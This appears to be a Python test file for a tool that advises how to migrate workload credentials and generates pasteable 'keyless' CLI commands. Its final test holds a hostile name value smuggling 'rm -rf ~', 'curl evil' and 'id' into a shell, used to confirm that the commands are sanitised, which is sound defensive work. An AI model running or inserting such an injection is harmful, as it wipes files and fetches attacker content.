"""The next step up the ladder (`keyless.directory.advice`): which step each situation gets, that its
commands name the workload's real credentials and hosts, and that no stored name can inject into the
shell an operator pastes the commands into."""

from __future__ import annotations

import shlex

from keyless.directory.advice import fix, identity_name, next_step
from keyless.domain.credentials import Credential, Owner
from keyless.domain.posture import DAY, AssessedCredential, LeakNote, Thresholds, Workload, assess

NOW = 1_800_000_000.0
APP = "22222222-2222-2222-2222-222222222222"


def cred(kind: str, cid: str, **kw: object) -> AssessedCredential:
    from_ca = kw.pop("from_internal_ca", None)
    broad = bool(kw.pop("broad_subject", False))
    leaked = bool(kw.pop("leaked", False))
    c = Credential(id=cid, kind=kind, owner=Owner("application", APP), display_name=str(kw.pop("name", "n")),  # type: ignore[arg-type]
                   created_at=NOW - DAY, expires_at=None if kind == "federated" else NOW + 60 * DAY,
                   label="https://token.actions.githubusercontent.com repo:acme/*" if kind == "federated" else "h")
    return AssessedCredential(c, from_internal_ca=from_ca, broad_subject=broad, leaked=leaked)  # type: ignore[arg-type]


def workload(*creds: AssessedCredential, sources: tuple[str, ...] = (), name: str = "orders worker",
             kind: str = "application") -> Workload:
    return Workload(client_id=APP, display_name=name, kind=kind, created_at=NOW - DAY, credentials=creds,  # type: ignore[arg-type]
                    signins=5, sources=sources)


def step_of(w: Workload, host_of: dict[str, str] | None = None) -> tuple[str, tuple[str, ...]]:
    step = next_step(assess(w, host_of or {}, NOW, Thresholds()), NOW)
    assert step is not None
    return step.guide, step.commands


def test_secret_on_agent_hosts_moves_to_a_user_assigned_identity_and_removes_the_secret() -> None:
    w = workload(cred("secret", "s1"), sources=("10.0.0.5",))
    guide, commands = step_of(w, {"10.0.0.5": "web-01"})
    assert guide.endswith("#to-a-managed-identity")
    assert commands == ("keyless identity create orders-worker",
                        "keyless identity assign orders-worker --host web-01",
                        "keyless identity bind orders-worker --host web-01 --uid <service-user>",
                        f"keyless secret revoke {APP} s1")
    summary = next_step(assess(w, {"10.0.0.5": "web-01"}, NOW, Thresholds()), NOW)
    assert summary is not None and "signs in only from host web-01, which runs the Keyless agent" in summary.summary


def test_secret_seen_from_an_address_without_an_agent_moves_to_a_certificate() -> None:
    w = workload(cred("secret", "s1"), sources=("10.0.0.5", "10.0.0.6"))
    guide, commands = step_of(w, {"10.0.0.5": "web-01"})
    assert guide.endswith("#from-a-secret-to-a-certificate")
    assert commands[0].startswith(f"keyless cert new {APP} --out") and commands[1] == f"keyless secret revoke {APP} s1"


def test_a_workload_that_already_has_a_certificate_drops_its_secrets() -> None:
    guide, commands = step_of(workload(cred("secret", "s1"), cred("secret", "s2"), cred("certificate", "c1")))
    assert guide.endswith("#finish-the-climb")
    assert commands == (f"keyless secret revoke {APP} s1", f"keyless secret revoke {APP} s2")


def test_foreign_certificate_is_replaced_by_one_from_the_keyless_ca() -> None:
    guide, commands = step_of(workload(cred("certificate", "c1", from_internal_ca=False)))
    assert guide.endswith("#certificates-from-the-keyless-ca") and commands[-1] == f"keyless cert revoke {APP} c1"


def test_certificate_climbs_to_federation_or_an_agent() -> None:
    guide, commands = step_of(workload(cred("certificate", "c1", from_internal_ca=True)))
    assert guide.endswith("#to-federation") and commands[0].startswith(f"keyless federation add {APP}")


def test_broad_federated_subject_is_narrowed() -> None:
    guide, commands = step_of(workload(cred("federated", "f1", name="gh", broad_subject=True)))
    assert guide.endswith("#narrow-a-federated-subject")
    assert commands[0] == f"keyless federation remove {APP} gh"
    assert "--issuer https://token.actions.githubusercontent.com" in commands[1]


def test_top_rungs_have_no_step_and_a_leak_comes_first() -> None:
    assert next_step(assess(workload(cred("federated", "f1")), {}, NOW, Thresholds()), NOW) is None
    assert next_step(assess(workload(kind="identity"), {}, NOW, Thresholds()), NOW) is None
    guide, commands = step_of(workload(cred("secret", "s1", leaked=True), cred("certificate", "c1")))
    assert guide.endswith("#a-leaked-credential") and commands == (f"keyless secret revoke {APP} s1",)


def test_a_workload_whose_leaked_secret_was_revoked_gets_a_certificate_not_a_new_secret() -> None:
    w = Workload(client_id=APP, display_name="w", kind="application", created_at=NOW - DAY,
                 leaks=(LeakNote("s1", "kls_Ab3", "repo:.env:1", NOW - DAY),))
    guide, commands = step_of(w)
    assert guide.endswith("#a-leaked-credential")
    assert commands == (f"keyless cert new {APP} --out <dir-on-the-workload-host>",)


def test_fix_for_several_secrets_keeps_the_newest() -> None:
    older = cred("secret", "old")
    newer = AssessedCredential(Credential(id="new", kind="secret", owner=Owner("application", APP), display_name="",
                                       created_at=NOW - 10, expires_at=NOW + 60 * DAY))
    a = assess(workload(older, newer), {}, NOW, Thresholds())
    finding = next(f for f in a.findings if f.risk == "several_active_secrets")
    assert fix(a, finding, NOW, next_step(a, NOW)) == (f"keyless secret revoke {APP} old",)


def test_stored_names_cannot_inject_into_the_pasted_commands() -> None:
    """An admin-chosen display name, credential name or host name ends up in a command an operator
    pastes into a shell: each is reduced or quoted so the shell sees one plain word."""
    hostile = "x; rm -rf ~ $(curl evil) `id`"
    w = workload(cred("federated", "f1", name=hostile, broad_subject=True), name=hostile)
    _, commands = step_of(w)
    for command in commands:
        words = shlex.split(command)
        assert hostile in words or all(";" not in word for word in words)
    assert identity_name(hostile, APP) == "x-rm--rf-curl-evil-id"
    assert identity_name("$$$", APP) == f"app-{APP[:8]}"
    _, commands = step_of(workload(cred("secret", "s1"), sources=("10.0.0.5",), name=hostile),
                          {"10.0.0.5": "web-01"})
    assert all(";" not in w and "$(" not in w for c in commands for w in shlex.split(c))
